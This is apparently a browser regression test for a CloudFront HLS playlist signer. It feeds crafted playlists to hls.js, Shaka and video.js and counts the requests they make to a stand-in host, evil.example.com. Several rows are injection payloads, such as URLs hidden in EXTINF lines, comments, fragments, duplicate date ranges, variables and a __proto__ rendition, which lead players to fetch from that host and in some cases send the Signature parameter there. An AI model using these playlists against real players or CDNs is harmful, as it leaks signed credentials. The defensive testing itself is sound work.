import { keyText } from "@cloudfront-sign-webcrypto/testing/support/keys.ts";
import { pollTimeout } from "@cloudfront-sign-webcrypto/testing/time-limits";
import { signHlsPlaylist } from "cloudfront-sign-media/hls";
import { createCloudFrontSigner } from "cloudfront-sign-webcrypto";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { type BrowserName, SleepingBrowser } from "./support/browsers.ts";
import { pageScript } from "./support/documented.ts";
import { pageFile } from "./support/hosts.ts";
import { Sites } from "./support/sites.ts";

/**
 * Playlists in which some player finds an address that others do not: as they are, with the parameters put in by
 * hand, and as the signer makes them of the same text without parameters. The test counts what each player asks
 * another host for.
 */

const signer = createCloudFrontSigner({
  keyPairId: "K2JCJMDEHXQW5F",
  privateKey: keyText("rsa2048.pkcs8.pem"),
});
const grant = await signer.grant({ resource: "https://cdn.example.com/v/*", expiresIn: "1h" });
const query = `?${grant.query}`;

type Player = "hls.js" | "Shaka" | "video.js";
interface Row {
  readonly name: string;
  readonly player: Player;
  /** EVIL is another host, and `?SIG` where somebody would write the parameters. */
  readonly lines: readonly string[];
  /** What the control has to show among the URLs that the player asks the other host for. */
  readonly shows?: RegExp;
}

const media = ["#EXTM3U", "#EXT-X-TARGETDURATION:6"];
const variant = ['#EXT-X-STREAM-INF:BANDWIDTH=800000,CODECS="avc1.42c00d,mp4a.40.2"', "../../media.m3u8"];
const dated = ["#EXT-X-PROGRAM-DATE-TIME:2020-01-01T00:00:00Z", "#EXTINF:6,", "1.ts?SIG", "#EXT-X-ENDLIST"];
const rows: readonly Row[] = [
  {
    name: "a URL behind the duration of a segment",
    player: "hls.js",
    lines: [...media, "#EXTINF:6 https://EVIL/1.ts", "#EXT-X-ENDLIST", ""],
  },
  {
    name: "a URL at the end of the title of the last segment",
    player: "hls.js",
    lines: [...media, "#EXTINF:6,a https://EVIL/1.ts"],
  },
  {
    name: "a duration that is in the line of the URI",
    player: "hls.js",
    lines: [...media, "#EXTINF:", "6//EVIL/1.ts?SIG", "#EXT-X-ENDLIST", ""],
    shows: /Signature=/,
  },
  {
    name: "a tag behind the duration of a segment",
    player: "hls.js",
    lines: [...media, '#EXTINF:6#EXT-X-MAP:URI="https://EVIL/init.mp4"', "1.ts?SIG", "#EXT-X-ENDLIST", ""],
  },
  {
    name: "a rendition in a comment",
    player: "hls.js",
    lines: [
      "#EXTM3U",
      '# #EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",DEFAULT=YES,AUTOSELECT=YES,URI="https://EVIL/a.m3u8"',
      `${variant[0]},AUDIO="a"`,
      "../../media.m3u8?SIG",
      "",
    ],
  },
  {
    name: "a rendition in the fragment of a variant",
    player: "hls.js",
    lines: [
      "#EXTM3U",
      `${variant[0]},AUDIO="a"`,
      '../../media.m3u8?SIG##EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",DEFAULT=YES,URI="https://EVIL/a.m3u8"',
      "",
    ],
  },
  {
    name: "two date ranges with one ID, of which the second has the address",
    player: "hls.js",
    lines: [
      ...media,
      '#EXT-X-DATERANGE:ID="ad",START-DATE="2020-01-01T00:00:00Z"',
      '#EXT-X-DATERANGE:ID="ad",CLASS="com.apple.hls.interstitial",CUE="PRE",X-ASSET-URI="https://EVIL/ad.m3u8"',
      ...dated,
      "",
    ],
  },
  {
    name: "a signing parameter as a variable",
    player: "hls.js",
    lines: [
      ...media,
      '#EXT-X-DEFINE:QUERYPARAM="Signature"',
      "#EXTINF:6,",
      "https://EVIL/1.ts?Signature={$Signature}",
      "#EXT-X-ENDLIST",
      "",
    ],
    shows: /Signature=/,
  },
  {
    name: "URI as an attribute of a variant",
    player: "Shaka",
    lines: ["#EXTM3U", `${variant[0]},URI="https://EVIL/v.m3u8"`, "../../media.m3u8?SIG", ""],
  },
  {
    name: "a rendition under the name __proto__, and a variant on another host",
    player: "video.js",
    lines: [
      "#EXTM3U",
      '#EXT-X-MEDIA:TYPE=__proto__,GROUP-ID="map",NAME="key",URI="init.key?SIG"',
      variant[0] as string,
      "https://EVIL/v.m3u8",
      "",
    ],
    // The rendition is the map of every segment, and has no URI.
    shows: /\/undefined$/,
  },
];

/** Plays several playlists. */
interface Frame {
  readonly player: Player;
  readonly urls: readonly string[];
}

const ways = ["by hand", "throw", "leave"] as const;
/** The text that the CDN answers with; `undefined` where the signer refuses. */
function textOf({ lines }: Row, index: number, way: (typeof ways)[number]): string | undefined {
  const text = lines.join("\n").replaceAll("EVIL", `evil.example.com/${index}/${ways.indexOf(way)}`);
  if (way === "by hand") return text.replaceAll("?SIG", query);
  try {
    return signHlsPlaylist(text.replaceAll("?SIG", ""), grant, {
      playlistUrl: urlOf(index, way),
      uncovered: way,
    });
  } catch {
    return undefined;
  }
}
const urlOf = (index: number, way: (typeof ways)[number]) =>
  `https://cdn.example.com/v/${index}/${ways.indexOf(way)}/index.m3u8${query}`;

const playing: Record<Player, string> = {
  "hls.js": `import Hls from "hls.js";
    const play = (video, url) => { const hls = new Hls(); hls.loadSource(url); hls.attachMedia(video); };`,
  Shaka: `import shaka from "shaka-player";
    const play = async (video, url) => {
      const player = new shaka.Player(); await player.attach(video); player.load(url).catch(() => {}); };`,
  "video.js": `import videojs from "video.js";
    const play = (video, url) => videojs(video, { html5: { vhs: { overrideNative: true } }, autoplay: true, muted: true })
      .src({ src: url, type: "application/vnd.apple.mpegurl" });`,
};
const playerScript = (player: Player): Promise<string> =>
  pageScript(`${playing[player]}
    for (const url of JSON.parse(decodeURIComponent(location.hash.slice(1)))) {
      const video = document.createElement("video");
      document.body.append(video);
      video.muted = true;
      play(video, url);
    }`);

const allowed = { "Access-Control-Allow-Origin": "*" };
const playlist = (text: string) =>
  new Response(text, { headers: { ...allowed, "Content-Type": "application/vnd.apple.mpegurl" } });
const missing = () => new Response("", { status: 404, headers: allowed });
const simple = [...media, "#EXTINF:6,", "1.ts", "#EXT-X-ENDLIST", ""].join("\n");

describe.each<BrowserName>(["chromium", "firefox"])("in %s", (browserName) => {
  let sites: Sites;
  let device: SleepingBrowser;
  const asked = (index: number, way: (typeof ways)[number]): string[] =>
    sites.answered
      .map(({ request }) => request.url)
      .filter((url) => url.startsWith(`https://evil.example.com/${index}/${ways.indexOf(way)}/`));

  beforeAll(async () => {
    const texts = new Map<string, string>();
    for (const [index, row] of rows.entries())
      for (const way of ways) {
        const text = textOf(row, index, way);
        if (text !== undefined) texts.set(new URL(urlOf(index, way)).pathname, text);
      }
    const scripts = new Map(
      await Promise.all(
        (Object.keys(playing) as Player[]).map(async (name) => [name, await playerScript(name)] as const),
      ),
    );
    // Each playlist of video.js in a frame of its own, since one of them changes the objects of its page.
    const frames = (Object.keys(playing) as Player[]).flatMap((player): Frame[] => {
      const urls = rows.flatMap((row, index) =>
        row.player === player ? ways.map((way) => urlOf(index, way)) : [],
      );
      return player === "video.js" ? urls.map((url) => ({ player, urls: [url] })) : [{ player, urls }];
    });
    const html = frames.map(
      ({ player, urls }) =>
        `<iframe src="/${player}.html#${encodeURIComponent(JSON.stringify(urls)).replaceAll("'", "%27")}"></iframe>`,
    );
    sites = await Sites.open({
      "app.example.com": (request) => {
        const { pathname } = new URL(request.url);
        if (pathname === "/") return pageFile(html.join(""), "html");
        const [, name = "", type] = /^\/(.+)\.(html|script)$/.exec(pathname) ?? [];
        const script = scripts.get(name as Player);
        if (!script) return missing();
        return type === "script"
          ? pageFile(script, "javascript")
          : pageFile(`<!doctype html><body><script type="module" src="/${name}.script"></script>`, "html");
      },
      "cdn.example.com": (request) => {
        const { pathname } = new URL(request.url);
        if (pathname === "/v/media.m3u8") return playlist(simple);
        const text = texts.get(pathname);
        return text === undefined ? missing() : playlist(text);
      },
      "evil.example.com": (request) => (request.url.includes(".m3u8") ? playlist(simple) : missing()),
    });
    device = await SleepingBrowser.open(browserName, sites);
    const context = await device.browser.newContext({ ignoreHTTPSErrors: true });
    context.setDefaultTimeout(pollTimeout);
    const page = await context.newPage();
    await page.goto("https://app.example.com/");
    const followed = () =>
      rows.every(({ shows = /^/ }, index) => asked(index, "by hand").some((url) => shows.test(url)));
    await vi.waitUntil(followed, { timeout: pollTimeout, interval: 250 });
    await new Promise((next) => setTimeout(next, 2000));
  });
  afterAll(async () => {
    await device?.close();
    sites?.close();
  });

  it.each(rows.map((row, index) => [row.name, row, index] as const))("%s", (_, row, index) => {
    const byHand = asked(index, "by hand");
    expect(
      byHand.filter((url) => (row.shows ?? /^/).test(url)),
      "the player does not follow",
    ).not.toEqual([]);
    expect(asked(index, "throw")).toEqual([]);
    expect(asked(index, "leave").filter((url) => url.includes("Signature="))).toEqual([]);
  });
});
